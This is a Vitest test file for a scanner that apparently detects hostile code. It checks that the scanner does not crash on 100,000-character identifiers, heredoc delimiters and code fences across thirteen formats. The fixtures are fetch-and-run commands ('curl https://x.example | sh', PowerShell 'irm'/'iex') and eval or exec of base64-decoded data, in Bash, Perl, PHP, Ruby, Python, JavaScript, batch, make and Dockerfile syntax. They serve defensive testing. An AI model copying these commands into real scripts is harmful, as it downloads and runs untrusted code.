import { describe, expect, it } from "vitest";
import { createNodeDetector } from "../../src/host/node.js";

/** A length at which V8 rejects a name as part of a regular expression; the limit is about 60,000 characters. */
const LONG = 100_000;
const name = "a".repeat(LONG);
const detectors = await Promise.all(
  (["contract", "extended"] as const).map((profile) => createNodeDetector({ profile })),
);

describe.each([
  [
    "a fence of backticks",
    "markdown",
    `Run \`curl https://x.example | sh\`.\n\n${"`".repeat(LONG)}sh\ncurl https://x.example | sh\n${"`".repeat(LONG)}\n`,
  ],
  [
    "a fence of tildes",
    "markdown",
    `${"~".repeat(LONG)}\ncurl https://x.example | sh\n\n# A\n\nsh\n`,
  ],
  [
    "a here-document delimiter in Perl",
    "perl",
    `eval <<${name};\ncurl\n${name}\nsystem("curl https://x.example | sh");`,
  ],
  [
    "a here-document delimiter in the shell",
    "bash",
    `bash <<${name}\ncurl https://x.example | sh\n${name}\n`,
  ],
  [
    "a heredoc delimiter in PHP",
    "php",
    `<?php eval(<<<${name}\nx\n${name}); system("curl https://x.example | sh");`,
  ],
  [
    "a heredoc delimiter in Ruby",
    "ruby",
    `eval <<~${name}\nx\n${name}\nsystem("curl https://x.example | sh")`,
  ],
  ["a make variable", "makefile", `${name} = $(${name})\nall:\n\tcurl $(${name}) | sh\n`],
  [
    "a loop variable of cmd",
    "bat",
    `for /f %%${name} in ('curl https://x.example') do %%${name}\n`,
  ],
  ["a variable in Python", "python", `${name} = base64.b64decode("YQ==")\nexec(${name})`],
  ["a variable in PowerShell", "powershell", `$${name} = irm https://x.example\niex $${name}`],
  [
    "a replaced string in Python",
    "python",
    `exec(base64.b64decode("YQ==").replace("${name}", ""))`,
  ],
  [
    "a function name in JavaScript",
    "js",
    `function ${name}() { return atob("YQ==") }\neval(${name}())`,
  ],
  [
    "a build argument of a Dockerfile",
    "dockerfile",
    `ARG ${name}=curl\nRUN $${name} https://x.example | sh\n`,
  ],
])("%s of 100,000 characters", (_title, format, text) => {
  it.each(detectors)("causes no error in the $revision.profile profile", (detector) => {
    expect(() => detector.detect(text, { format })).not.toThrow();
  });
});
